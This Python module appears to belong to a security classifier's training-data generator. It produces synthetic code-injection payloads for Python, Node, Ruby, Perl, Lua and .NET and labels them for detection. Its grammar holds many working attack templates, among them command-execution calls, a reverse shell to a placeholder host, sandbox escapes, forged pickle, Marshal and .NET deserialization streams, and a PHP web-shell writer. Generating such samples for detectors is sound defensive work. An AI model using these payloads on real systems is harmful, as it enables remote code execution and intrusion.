"""Code injection for .NET, Python, Node, Ruby, Perl, Lua and Go: calls and their gadgets."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, draw
from securitai.train.corpora.kinds import BODY, COOKIE, HEADER, NAME, VALUE, AttackKind
from securitai.verdict import Category

_UCMD = PARTS.maker("ucmd")


def pickled(rng: Random) -> str:
    """A pickle program that calls a function by name; composed by hand, never loaded."""
    module, name = (("posix", "system"), ("os", "system"), ("subprocess", "check_output"),
                    ("builtins", "eval"), ("nt", "system"), ("os", "popen"))[
        int(rng.random() * 6)
    ]  # fmt: skip
    command = _UCMD(rng).replace("\\", "/").replace("'", "")
    if rng.random() < 0.5:
        return f"c{module}\n{name}\n(S'{command}'\ntR."
    return f"\x80\x03c{module}\n{name}\nq\x00X{chr(len(command) % 128)}\x00\x00\x00{command}q\x01\x85q\x02Rq\x03."


def pickled64(rng: Random) -> str:
    """The same in base64, as cookies carry it."""
    return b64encode(pickled(rng).encode("latin-1")).decode()


def marshalled(rng: Random) -> str:
    """A Ruby ``Marshal`` stream of a gadget class in base64: it begins with ``BAh`` or ``BAc``."""
    name = ("Gem::Requirement", "Gem::Installer", "ERB", "ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy",
            "Gem::SpecFetcher", "Net::WriteAdapter", "Gem::RequestSet")[int(rng.random() * 7)].encode()  # fmt: skip
    body = b"\x04\x08" + (b"[\x08c", b"o:", b"U:")[int(rng.random() * 3)]
    return b64encode(
        body + bytes([len(name) + 5]) + name + b"\x06:" + _UCMD(rng).encode("latin-1", "replace")
    ).decode()


def formatter(rng: Random) -> str:
    """A .NET ``BinaryFormatter`` stream (``AAEAAAD/////``) or a view state (``/wE``) in base64."""
    if rng.random() < 0.6:
        names = (
            b"System.Windows.Data, Version=4.0.0.0", b"Microsoft.PowerShell.Editor",
            b"System.Collections.Generic.SortedSet`1", b"System.Configuration.Install.AssemblyInstaller",
            b"System.Security.Principal.WindowsIdentity", b"System.Data.DataSet",
        )  # fmt: skip
        head = b"\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x0c\x02\0\0\0"
        return b64encode(
            head + names[int(rng.random() * 6)] + rng.randbytes(12 + int(rng.random() * 80))
        ).decode()
    return (
        "/wE"
        + draw(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 20, 120)
        + "=="
    )


_G = Grammar(
    r"""
pyrun:
  __import__('os').system('‹ucmd›')
  __import__('os').popen('‹ucmd›').read()
  __import__("subprocess").check_output("‹ucmd›",shell=True)
  __import__('subprocess').getoutput('‹ucmd›')
  os.system('‹ucmd›')
  os.popen('‹ucmd›').read()
  subprocess.Popen('‹ucmd›',shell=True,stdout=-1).communicate()
  subprocess.run(["‹sh¦bash›","-c","‹ucmd›"])
  eval("__import__('os').system('‹ucmd0›')")
  eval(compile("for x in range(1):\n import time\n time.sleep(‹#1-30›)","a","single"))
  eval(compile(‹dq3›import os;os.system('‹ucmd0›')‹dq3›,"","exec"))
  exec("import os;os.system('‹ucmd0›')")
  exec(__import__('base64').b64decode('‹b64›'))
  exec(bytes.fromhex('‹hexrun›'))
  open('‹u_file›').read()
  open('/tmp/‹rnd›','w').write('‹rnd›')
  __builtins__.__dict__['__im'+'port__']('o'+'s').system('‹ucmd0›')
  getattr(__import__('os'),'sys'+'tem')('‹ucmd0›')
  globals()['__builtins__'].__import__('os').system('‹ucmd0›')
  [x for x in ().__class__.__base__.__subclasses__() if x.__name__=='‹Popen¦catch_warnings¦_wrap_close›'][0]
  ().__class__.__bases__[0].__subclasses__()[‹#10-500›]
  (lambda:0).__globals__['__builtins__']['__import__']('os').system('‹ucmd0›')
  __import__('time').sleep(‹#1-30›)
  __import__('urllib.request').request.urlopen('‹url›')
  __import__('socket').gethostbyname('‹host›')
  __import__('pty').spawn('/bin/sh')
  breakpoint()
  help(os);!‹ucmd0›
  sys.modules['os'].system('‹ucmd0›')
  importlib.import_module('os').system('‹ucmd0›')
  type('',(),{'__reduce__':lambda s:(__import__('os').system,('‹ucmd0›',))})()
  print(__import__('platform').uname())
  ImageMath.eval("__import__('os').system('‹ucmd0›')")
python:
  6×‹pyrun›
  2×‹pre›'+‹pyrun›+'
  2×‹pre›"+str(‹pyrun›)+"
  ‹pre›;‹pyrun›
  ‹pre›);‹pyrun›#
  ‹pre›')‹nl›‹pyrun›‹nl›#
  {‹pyrun›}
  f"{‹pyrun›}"
  import os;‹pyrun›
  import os‹nl›os.system("‹ucmd›")
  import socket,subprocess,os;s=socket.socket();s.connect(("‹host›",‹port›));[os.dup2(s.fileno(),i) for i in range(3)];subprocess.call("/bin/sh")
  @exec‹nl›@input‹nl›class X:pass
  def ‹x=az›():‹nl›    import os‹nl›    return os.popen("‹ucmd›").read()‹nl›‹$x›()
  {"code":"‹pyrun›"}
  @‹az›.default(lambda:‹pyrun›)
  [[[‹pyrun›]]]
  ‹az› if ‹pyrun› else ‹az›
  "%s" % ‹pyrun›
  {"inputs":"","prompt":"‹pyrun›"}
  raise Exception(‹pyrun›)
  lambda x=‹pyrun›:x
pickles:
  2×‹pickle›
  3×‹pickle64›
  gASV‹b64›
  !!python/object/apply:os.system ['‹ucmd0›']
  !!python/object/apply:subprocess.check_output [['‹ucmd0›']]
  !!python/object/new:os.system [‹ucmd0›]
  {"py/object":"__main__.‹Az›","py/reduce":[{"py/type":"os.system"},{"py/tuple":["‹ucmd0›"]}]}
  {"py/reduce":[{"py/type":"subprocess.Popen"},{"py/tuple":["‹ucmd0›"]}]}
njs:
  require('child_process').exec('‹ucmd›')
  require("child_process").execSync("‹ucmd›").toString()
  require('child_process').spawnSync('‹ucmd0›').stdout
  require('fs').readFileSync('‹u_file›','utf8')
  require('fs').readdirSync('.')
  require('fs').writeFileSync('/tmp/‹rnd›','‹rnd›')
  require('net').connect(‹port›,'‹host›')
  require('http').get('‹url›')
  process.mainModule.require('child_process').execSync('‹ucmd›')
  global.process.mainModule.require('child_process').execSync('‹ucmd›').toString()
  global.process.mainModule.constructor._load('child_process').execSync('‹ucmd›')
  process.mainModule.constructor._load('fs').readFileSync('‹u_file›')
  process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','‹ucmd0›'],stdio:[]})
  this.constructor.constructor('return process')().mainModule.require('child_process').execSync('‹ucmd0›')
  this.constructor.constructor('return process.env')()
  constructor.constructor('return process')().exit()
  (function(){}).constructor("return global.process.mainModule.require('child_process').execSync('‹ucmd0›')")()
  new Function("return process.mainModule.require('child_process').execSync('‹ucmd0›')")()
  eval("require('child_process').exec('‹ucmd0›')")
  eval(Buffer.from('‹b64›','base64').toString())
  import('child_process').then(m=>m.execSync('‹ucmd›'))
  (await import('node:child_process')).execSync('‹ucmd0›')
  process.exit()
  process.kill(process.pid)
  process.cwd()
  res.end(require('fs').readdirSync('..').toString())
  res.end(‹n›*‹n›)
  setTimeout(function(){require('child_process').exec('‹ucmd0›')},‹n›)
  while(1);
  for(;;){}
  var d=Date.now();while(Date.now()-d<‹#1000-20000›){}
  Deno.run({cmd:["‹ucmd0›"]})
  Bun.spawnSync(["‹ucmd0›"])
  vm.runInNewContext("this.constructor.constructor('return process')().exit()")
  global['\x72\x65quire']('child\x5fprocess').exec('‹ucmd0›')
  const e=new Error();e.name=Symbol();const f=async()=>e.stack;f().catch(x=>x.constructor.constructor('return process')())
  console.log(require('os').userInfo())
node:
  6×‹njs›
  2×‹pre›';‹njs›;//
  2×‹pre›");‹njs›;//
  ‹pre›'+‹njs›+'
  ‹pre›}‹njs›;{
  {"rce":"_$$ND_FUNC$$_function(){‹njs›}()"}
  {"‹az›":"_$$ND_FUNC$$_function (){‹njs›;}()","‹az›":"‹rnd›"}
  _$$ND_FUNC$$_function(){‹njs›}()
  {"‹az›":{"__js_function":"function(){‹njs›}()"}}
  ${‹njs›}
  `${‹njs›}`
  (function(){‹njs›})()
  (()=>{‹njs›})()
  async()=>{‹njs›}
  ‹pre›;‹njs›
  {{‹njs›}}
  {"then":"$1:__proto__:then","status":"resolved_model","_response":{"_prefix":"‹njs›;","_formData":{"get":"$1:constructor:constructor"}}}
  {"‹az›":"$1:constructor:constructor","_prefix":"‹njs›//"}
  $1:__proto__:constructor:constructor
  {"inputs":[{"type":"customMCP","mcpServerConfig":"({x:(function(){‹njs›;return 1})()})"}]}
  ={{ (function(){ return this.process.mainModule.require('child_process').execSync('‹ucmd0›').toString() })() }}
  {"expression":"‹njs›"}
ruby:
  3×`‹ucmd›`
  2×%x(‹ucmd›)
  2×system("‹ucmd›")
  Kernel.exec("‹ucmd›")
  Kernel.system('‹ucmd›')
  Kernel.exit(‹d1›)
  Kernel.open("|‹ucmd›")
  open("|‹ucmd›").read
  IO.popen('‹ucmd›').read
  IO.read('|‹ucmd0›')
  File.read('‹u_file›')
  File.open("‹u_file›").read
  eval("puts '‹rnd›'")
  eval("system('‹ucmd0›')")
  instance_eval("`‹ucmd0›`")
  send(:system,'‹ucmd0›')
  ‹az›.send(:eval,"`‹ucmd0›`")
  Object.const_get("Kernel").system('‹ucmd0›')
  constantize.new("|‹ucmd0›")
  %w[‹ucmd0›].map{|c| system c}
  #{system('‹ucmd0›')}
  @{[system "‹ucmd0›"]}
  <%= render inline: "<%= `‹ucmd0›` %" %>
  ERB.new("<%= `‹ucmd0›` %>").result
  Marshal.load(Base64.decode64('‹marsh›'))
  ‹marsh›
  YAML.load("--- !ruby/object:Gem::Installer\ni: x")
  --- !ruby/object:‹Gem::Requirement¦Gem::Installer¦OpenStruct¦ERB›‹nl›‹az›: ‹az›
  {"^o":"‹Gem::Installer¦Gem::Requirement¦Net::BufferedIO›","i":"x"}
  require 'open3';Open3.capture2('‹ucmd0›')
  Process.spawn('‹ucmd0›')
  exploit[‹az›]=`‹ucmd0›`
perl:
  2×system('‹ucmd›')
  exec("‹ucmd›");
  `‹ucmd›`
  qx{‹ucmd›}
  qx/‹ucmd0›/
  open(F,"‹u_file›");print <F>;
  open(P,"‹ucmd0›|")
  print `‹ucmd0›`
  |‹ucmd0›|
  @{[system "‹ucmd0›"]}
  ${\system('‹ucmd0›')}
  $ENV{'‹PATH¦HOME›'}
  eval{system("‹ucmd0›")}
  require "‹u_file›"
  perl -MIO::Socket -e 'system("‹ucmd0›")'
  BEGIN{system("‹ucmd0›")}
  os.execute("‹ucmd›")
  os.execute('‹ucmd›')
  io.popen("‹ucmd›"):read("*a")
  local ‹x=az›=io.popen("‹ucmd0›");ngx.say(‹$x›:read("*a"))
  loadstring("os.execute('‹ucmd0›')")()
  package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0","luaopen_io")()
  local io_l=package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0","luaopen_io");local io=io_l();local f=io.popen("‹ucmd0›","r");local res=f:read("*a");f:close();return res
  %{lua:os.execute("‹ucmd0›")}
  %lua:os.execute("‹ucmd0›")
  dofile("‹u_file›")
  eval "return redis.call('config','set','dir','/var/www')" 0
  exec.Command("/bin/sh","-c","‹ucmd›").Output()
  os/exec.Command("‹ucmd0›")
  std::process::Command::new("‹ucmd0›")
  (shell-command-to-string "‹ucmd0›")
  :os.cmd(:"‹ucmd0›")
  System.cmd("‹ucmd0›",[])
  os:cmd("‹ucmd0›").
  [exec ‹ucmd0›]
  #exec(‹ucmd0›)
  s/‹az›/`‹ucmd0›`/e
  system.run("‹ucmd0›")
  awk -f /dev/stdin 'BEGIN{system("‹ucmd0›")}'
  sed -e '1e ‹ucmd0›'
  .*/!d;};s/‹az›/\x3c\x3fphp+system($_GET[0]);\x3b\x3f\x3e/;w+/usr/local/www/‹rnd›.php
  [0:system('‹ucmd0›')]
  [33:system('‹ucmd0›')]
  (sys|system)('‹ucmd0›')
  plot "<‹ucmd0›"
  set output "|‹ucmd0›"
  |tee /tmp/‹rnd›
perlin:
  4×‹perl›
  ‹pre›;‹perl›
  ‹pre›';‹perl›;'
  ‹pre›");‹perl›;#
  ‹pre›‹nl›‹perl›
dtype = System.Windows.Data.ObjectDataProvider, PresentationFramework¦System.Configuration.Install.AssemblyInstaller, System.Configuration.Install¦System.Windows.ResourceDictionary, PresentationFramework¦System.Diagnostics.Process, System¦System.IO.FileInfo, System.IO.FileSystem¦System.Security.Principal.WindowsIdentity, mscorlib¦Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties¦System.Management.Automation.PSObject¦System.Data.Services.Internal.ExpandedWrapper`2
net:
  3×{"$type":"‹dtype›","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c ‹wcmd›"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
  {"$type":"‹dtype›","fileName":"‹rnd›","IsReadOnly":true}
  {"$type":"‹dtype›","Path":"file:///‹az›.dll"}
  {"__type":"‹dtype›","MethodName":"Start","ObjectInstance":{"__type":"System.Diagnostics.Process, System","StartInfo":{"FileName":"cmd","Arguments":"/c ‹wcmd0›"}}}
  {"‹az›":{"$type":"‹dtype›","‹az›":"‹rnd›"}}
  3×‹netstream›
  __VIEWSTATE=‹netstream›
  System.Diagnostics.Process.Start("cmd.exe","/c ‹wcmd›")
  System.Diagnostics.Process.Start("‹wcmd0›")
  new System.Diagnostics.ProcessStartInfo("cmd.exe","/c ‹wcmd›")
  System.IO.File.ReadAllText(@"C:\‹w_file›")
  Assembly.Load(Convert.FromBase64String("TVqQAA‹b64›"))
  System.Reflection.Assembly.LoadFrom("\\‹host›\‹az›.dll")
  "".GetType().Assembly.GetType("System.Diagnostics.Process").GetMethod("Start")
  Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"))
  CreateObject("WScript.Shell").Run "‹wcmd0›"
  CreateObject("Wscript.Shell").Exec("cmd /c ‹wcmd›").StdOut.ReadAll
  Response.Write(‹n›*‹n›)
  response.write(‹#10000-999999›*‹#10000-999999›)
  '+response.write(‹#10000-999999›*‹#10000-999999›)+'
  "+response.write(‹#10000-999999›*‹#10000-999999›)+"
  eval(Request.Item["‹az›"],"unsafe")
  execute(request("‹az›"))
  Execute("Response.Write(‹n›)")
  <% eval request("‹az›") %>
  @System.Diagnostics.Process.Start("‹wcmd0›")
  [System.Diagnostics.Process]::Start("‹wcmd0›")
  it.GetType().Assembly.DefinedTypes.Where(it.Name=="Process").First()
  <string><ObjectDataProvider MethodName="Start" xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"><ObjectDataProvider.MethodParameters><s:String xmlns:s="clr-namespace:System;assembly=mscorlib">/c ‹wcmd0›</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></string>
  <profile><item key="‹az›" type="System.Data.Services.Internal.ExpandedWrapper`2[[System.Web.UI.ObjectStateFormatter],[System.Windows.Data.ObjectDataProvider]]"><ProjectedProperty0><MethodName>Deserialize</MethodName></ProjectedProperty0></item></profile>
  rauPostData={"TargetFolder":"‹b64›","Version":"20‹#10-20›.‹d1›.‹n›"}&‹dtype›
  <SOAP-ENV:Body><a1:TextFormattingRunProperties xmlns:a1="http://schemas.microsoft.com/clr/nsassem/Microsoft.VisualStudio.Text.Formatting"><ForegroundBrush>&lt;ResourceDictionary&gt;</ForegroundBrush></a1:TextFormattingRunProperties></SOAP-ENV:Body>
""",
    PARTS,
    {"pickle": pickled, "pickle64": pickled64, "marsh": marshalled, "netstream": formatter},
)
_C = Category.CODE_INJECTION
_SOME = (VALUE, COOKIE, HEADER)
KINDS = (
    AttackKind("code.python", _C, _G.maker("python"), 3.0, _SOME),
    AttackKind("code.pickle", _C, _G.maker("pickles"), 1.0, _SOME),
    AttackKind("code.node", _C, _G.maker("node"), 3.0, (*_SOME, NAME)),
    AttackKind("code.ruby", _C, _G.maker("ruby"), 2.0, _SOME),
    AttackKind("code.perl_lua", _C, _G.maker("perlin"), 1.5, _SOME),
    AttackKind("code.net", _C, _G.maker("net"), 2.0, (*_SOME, BODY)),
)
